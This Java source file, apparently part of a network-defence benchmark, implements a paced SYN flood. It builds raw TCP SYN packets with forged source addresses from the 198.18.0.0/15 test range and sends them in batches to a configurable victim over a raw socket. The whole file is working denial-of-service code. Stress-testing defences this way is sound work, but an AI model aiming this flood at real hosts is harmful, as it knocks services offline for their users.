package breakwater.bench.l4;

import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.net.InetSocketAddress;
import java.nio.ByteOrder;
import java.util.SplittableRandom;

/**
 * First segments of connections from forged addresses (RFC 9293 section 3.5), a fixed number a second, each from another address out of
 * 198.18.0.0/15, which RFC 2544 keeps for measurements. Only for a network namespace: it needs raw sockets.
 */
record SynFlood(InetSocketAddress victim, double perSecond) implements Attack {
    private static final int RAW_PROTOCOL = 255;
    private static final int BATCH = 64;
    private static final int PACKET_BYTES = 40;
    private static final int SOURCES_FROM = 0xC612_0000;
    private static final int SOURCES = 1 << 17;
    private static final ValueLayout.OfShort SHORT = ValueLayout.JAVA_SHORT_UNALIGNED.withOrder(ByteOrder.BIG_ENDIAN);
    private static final ValueLayout.OfInt INT = ValueLayout.JAVA_INT_UNALIGNED.withOrder(ByteOrder.BIG_ENDIAN);

    @Override
    public String name() {
        return "SYN flood";
    }

    @Override
    public void run(Kernel kernel, AttackRun run) {
        Messages messages = new Messages(BATCH, PACKET_BYTES, true);
        MemorySegment address = SocketAddresses.of(victim);
        for (int i = 0; i < BATCH; i++) {
            messages.address(i, address);
        }
        SplittableRandom random = new SplittableRandom(42);
        int socket = Kernel.must("raw socket", kernel.socket(Kernel.RAW | Kernel.NONBLOCK, RAW_PROTOCOL));
        Pace pace = new Pace(perSecond);
        int due = 0;
        run.ready();
        try (Poll poll = new Poll(kernel)) {
            while (run.going()) {
                poll.await(1);
                due += pace.due(System.nanoTime());
                while (due >= BATCH) {
                    for (int i = 0; i < BATCH; i++) {
                        write(messages.buffer(i), random);
                    }
                    run.attempted(Math.max(0, kernel.sendMany(socket, messages.all(), BATCH)));
                    due -= BATCH;
                }
            }
        } finally {
            kernel.close(socket);
        }
    }

    /** The kernel fills in the length, the identification and the checksum of the IP header. */
    private void write(MemorySegment packet, SplittableRandom random) {
        int target = MemorySegment.ofArray(victim.getAddress().getAddress()).get(INT, 0);
        int source = SOURCES_FROM + random.nextInt(SOURCES);
        packet.set(INT, 0, 0x4500_0000 | PACKET_BYTES);
        packet.set(INT, 4, 0);
        // Time to live 64, TCP.
        packet.set(INT, 8, 0x4006_0000);
        packet.set(INT, 12, source);
        packet.set(INT, 16, target);
        packet.set(INT, 20, 1024 + random.nextInt(60_000) << 16 | victim.getPort());
        packet.set(INT, 24, random.nextInt());
        packet.set(INT, 28, 0);
        // A header of five words, SYN, the largest window.
        packet.set(INT, 32, 0x5002_FFFF);
        packet.set(INT, 36, 0);
        long sum = 6 + 20;
        for (int at = 12; at < PACKET_BYTES; at += 2) {
            sum += Short.toUnsignedInt(packet.get(SHORT, at));
        }
        sum = (sum & 0xFFFF) + (sum >>> 16);
        sum = (sum & 0xFFFF) + (sum >>> 16);
        packet.set(SHORT, 36, (short) ~sum);
    }
}
